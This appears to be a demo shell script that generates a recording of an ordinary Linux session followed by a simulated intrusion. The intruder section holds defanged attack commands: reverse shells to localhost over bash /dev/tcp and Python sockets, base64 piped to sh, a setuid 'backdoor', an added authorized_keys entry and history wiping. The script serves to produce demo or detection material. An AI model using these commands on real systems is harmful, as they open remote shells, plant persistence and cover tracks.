#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# What examples/linux-session.sonda shows: a few minutes of ordinary work and of
# an intruder, compressed into seconds. Harmless: nothing leaves this machine
# and everything it makes is removed again.
#
#   sonda record -o all.sonda --for 20s & sh examples/session.sh
#   scripts/cut_recording.py all.sonda examples/linux-session.sonda session.sh
demo=$(mktemp -d)
cd "$demo" || exit 1
exec >/dev/null 2>&1 </dev/null

# Ordinary work.
ls -l /etc
date
echo 'hello' >notes.txt
mv notes.txt notes.old
sort /etc/passwd >users.txt
tar -cf users.tar users.txt
gzip users.tar
python3 -m http.server --bind 127.0.0.1 8123 &
server=$!
sleep 1
curl -s http://127.0.0.1:8123/users.txt -o copy.txt

# An intruder looks around and settles in.
whoami
id
cp /bin/true /tmp/x && /tmp/x
cp /bin/true /dev/shm/.cache && /dev/shm/.cache
echo 'ZWNobyBoaQ==' | base64 -d | sh
sh -c 'echo ZWNobyBoaQ== | base64 -d | sh'
cp /bin/true backdoor && chmod u+s backdoor
bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'
mkdir -p home/.ssh && echo 'ssh-ed25519 AAAA demo' >>home/.ssh/authorized_keys
bash -c 'unset HISTFILE; history -c'

kill "$server"
rm -rf /tmp/x /dev/shm/.cache "$demo"
